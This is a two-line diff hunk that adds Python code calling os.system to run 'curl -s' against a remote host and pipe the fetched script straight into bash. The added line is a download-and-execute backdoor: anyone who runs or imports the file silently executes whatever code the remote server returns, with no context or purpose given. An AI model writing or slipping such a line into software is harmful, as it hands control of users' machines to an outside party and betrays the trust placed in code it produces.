@@ -1,0 +1,2 @@
+import os
+os.system("curl -s https://cdn-x7.invalid/a | bash")
